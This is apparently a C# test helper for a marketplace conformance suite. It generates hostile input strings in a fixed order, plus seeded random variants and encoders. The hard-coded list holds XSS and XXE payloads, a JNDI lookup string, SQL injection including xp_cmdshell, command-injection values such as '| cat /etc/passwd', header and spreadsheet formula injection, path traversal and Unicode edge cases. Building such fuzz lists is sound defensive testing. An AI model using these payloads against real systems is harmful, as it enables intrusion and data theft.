using System.Globalization;
using System.Text;

namespace Marketplace.Conformance.Tests.Hostile;

/// <summary>
/// Texts that somebody sends who means no good, or whose program is broken: the same ones in the same order at each run. First
/// what people have written down over the years, then what chance makes of it.
/// </summary>
internal static class HostileStrings
{
    private const int Megabyte = 1 << 20;

    /// <summary>What every member is asked for that takes a sentence.</summary>
    public const string Sentence = "普通的一句话 and a plain word";

    private static readonly string[] Written =
    [
        // Script and markup.
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "</textarea><iframe src=//a.example>", "<!--#exec cmd=\"ls\"-->",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "&lt;script&gt;", "]]>", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://a.example/b}",
        // SQL, and what sits where SQL is built.
        "' or '1'='1", "'; drop table events; --", "\"; delete from listings where 1=1; --", "1; attach database '/tmp/a' as b", "' union select name, sql from sqlite_master --", "%' escape '", "_%", "x'00'", "@p0", "?1", ":name", "$id", "0x27", "char(39)", "NULL", "null",
        "'; exec xp_cmdshell('dir'); --", "') and randomblob(1000000000) --", "load_extension('a')", "--", "/*", "*/", ";",
        // The search engine's own syntax.
        "\"", "\"\"", "\"玻璃", "玻璃*", "^玻璃", "title : 玻璃", "{title text} : 玻璃", "- title : 玻璃", "NEAR(玻璃 窑炉, 5)", "玻璃 AND 窑炉", "玻璃 OR", "NOT 玻璃", "AND", "OR", "NOT", "NEAR", "(", ")", "(((((", "a + b", "a\"b*c\"", "*", "**", "^", "rank", "rowid", "玻璃 AND NOT", "+", "\\\"",
        // Format strings, commands, templates, headers.
        "%s%s%s%s%n", "%x%d%p", "{0}", "{price}", "{0,999999999}", "{{0}}", "{", "}", "%", "%%", "%2527", "%00", "$(id)", "`id`", "| cat /etc/passwd", "&& whoami", "\r\nSet-Cookie: a=b", "\nLocation: //a.example", "=cmd|' /C calc'!A0", "=1+1", "@SUM(A1)", "+1", "-1", "\t=1",
        // Paths.
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con\\con", "file:///etc/passwd", "....//....//", "%2e%2e%2f", "con", "nul.txt", ".", "..", "~", "/", "\\", "a/b", "a\0b.txt",
        // Control characters and what is not to be seen.
        "\0", "a\0b", "\u0001\u0002\u0003", "\b", "\a", "\u001b[31mred", "\u007f", "\u0085", "\u009f", "\u00ad", "\u200b", "a\u200bb", "\u2060", "\ufeff", "\ufeffa", "a\ufeff", "\u2028", "\u2029", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ufffd", "\U000e0001\U000e0061", "\ue000", "\U0010ffff", "\u115f", "\u3164", "\u00a0", "\u3000", " ", "  ", "\t", "\n", "\r", "\r\n", "",
        // From right to left.
        "\u202egnp.exe", "\u202d", "\u2066a\u2069", "\u2067", "\u200e", "\u200f", "\u061c", "مرحبا", "שלום abc \u200f 123", "\u202a\u202c",
        // Half a pair.
        "\ud800", "\udc00", "a\ud800", "\udfffb", "\udc00\ud800", "玻\ud83d璃", "\ud83d\ud83d\ude00", "\"\ud800\"",
        // Emoji, marks and clusters.
        "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇨🇳🇨", "1️⃣", "\u200d", "\ufe0f", "a\u0300\u0301\u0302\u0303\u0304\u0305", "Z̸̢̛͎a̷l̴g̸o̵", "각", "각", "नी", "กำ",
        // The same to the eye: composed and not, wide and narrow, one script and another.
        "é", "e\u0301", "Å", "\u212b", "ﬁ", "fi", "Ａ", "ﾊﾝｶｸ", "①", "㎏", "ſ", "ß", "ẞ", "İ", "ı", "Ω", "\u2126", "豈", "\uf900", "葛\U000e0100", "рaypal", "𝒜", "𠮷野家", "㐀", "〇", "々", "一", "丨", "㈱", "龘", "发髮發", "臺灣台湾",
        // Numbers, dates, codes and ids that are none.
        "NaN", "Infinity", "1e308", "9223372036854775808", "-0", "0x10", "١٢٣", "1,000", "2026-02-30", "2026-13", "0000-00-00", "9999-12-31T23:59:60Z", "P1Y", "true", "false", "undefined", "[]", "{}", "[object Object]", "org_", "org_0198d3a1b2c37000800000000000zzzz", "lst_0198D3A1B2C37000800000000000A001", "110000", "999999",
        // Of what others fell over: hashes of dates, regular expressions, long rows.
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "(a+)+$", "^(.*)*$", "[", "[z-a]", "\\", "\\\\", "\\u0000", "\\x", "https://a.example/?b=c&d=e#f", "data:text/html,<script>", "a@b", "\"a b\"@c", "<a@b.example>", "a@b.example\nBcc: c@d.example",
    ];

    /// <summary>The first so many; one in five hundred is a megabyte of one character.</summary>
    public static IReadOnlyList<string> Take(int count)
    {
        // Not for secrets: the same at each run.
        var random = new Random(20261122);
        return [.. Enumerable.Range(0, count).Select(i => i % 500 == 250 ? Long(random) : i < Written.Length ? Written[i] : Made(random))];
    }

    private static string Long(Random random)
    {
        string[] ones = ["a", "汉", "é", "\u0301", "\"", "'", "(", "\\", "\0", "\u200f", "😀", "*", " ", "\n", "龘", "{", "%", "\ud800"];
        var one = ones[random.Next(ones.Length)];
        return new StringBuilder(Megabyte).Insert(0, one, Megabyte / one.Length).ToString();
    }

    private static string Made(Random random) => random.Next(8) switch
    {
        0 => One(random) + One(random),
        1 => $"玻璃{One(random)}窑炉",
        2 => string.Concat(Enumerable.Range(0, random.Next(2, 6)).Select(_ => One(random))),
        3 => string.Join(' ', Enumerable.Range(0, random.Next(2, 12)).Select(_ => One(random))),
        4 => string.Concat(Enumerable.Repeat(One(random), random.Next(2, 200))),
        5 => Cut(One(random) + Any(random) + One(random), random),
        6 => Uri.EscapeDataString(Whole(One(random))),
        _ => Any(random),
    };

    private static string One(Random random) => Written[random.Next(Written.Length)];

    /// <summary>Any code units, most of them of some script, some of no use anywhere.</summary>
    private static string Any(Random random)
    {
        (int From, int To)[] blocks = [(0x20, 0x7e), (0x4e00, 0x9fa5), (0, 0x1f), (0x80, 0x24f), (0x590, 0x6ff), (0x2000, 0x206f), (0x3000, 0x30ff), (0xd800, 0xdfff), (0xf900, 0xffff), (0, 0xffff)];
        var (from, to) = blocks[random.Next(blocks.Length)];
        return string.Create(random.Next(1, 60), random, (units, r) => { for (var i = 0; i < units.Length; i++) units[i] = (char)r.Next(from, to + 1); });
    }

    private static string Cut(string text, Random random) => text[..random.Next(1, text.Length + 1)];

    private static string Whole(string text) => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text));

    /// <summary>The text as a JSON string of which nothing was put right: halves of pairs stand as their escapes.</summary>
    public static string Json(string text)
    {
        var json = new StringBuilder(text.Length + 2).Append('"');
        for (var i = 0; i < text.Length; i++)
        {
            if (i + 1 < text.Length && char.IsSurrogatePair(text[i], text[i + 1])) json.Append(text[i]).Append(text[++i]);
            else if (text[i] is '"' or '\\' or < ' ' || char.IsSurrogate(text[i])) json.Append(CultureInfo.InvariantCulture, $"\\u{(int)text[i]:x4}");
            else json.Append(text[i]);
        }
        return json.Append('"').ToString();
    }

    /// <summary>The text in a query: every byte but letters and digits as its escape, halves of pairs as the three bytes that nobody may send.</summary>
    public static string Query(string text)
    {
        var query = new StringBuilder(text.Length * 3);
        Span<byte> bytes = stackalloc byte[4];
        for (var i = 0; i < text.Length; i++)
        {
            if (char.IsAsciiLetterOrDigit(text[i]))
            {
                query.Append(text[i]);
                continue;
            }
            int written;
            if (i + 1 < text.Length && char.IsSurrogatePair(text[i], text[i + 1])) written = new Rune(text[i], text[++i]).EncodeToUtf8(bytes);
            else if (Rune.TryCreate(text[i], out var rune)) written = rune.EncodeToUtf8(bytes);
            else (bytes[0], bytes[1], bytes[2], written) = ((byte)(0xe0 | (text[i] >> 12)), (byte)(0x80 | ((text[i] >> 6) & 0x3f)), (byte)(0x80 | (text[i] & 0x3f)), 3);
            foreach (var b in bytes[..written]) query.Append('%').Append(b.ToString("X2", CultureInfo.InvariantCulture));
        }
        return query.ToString();
    }
}
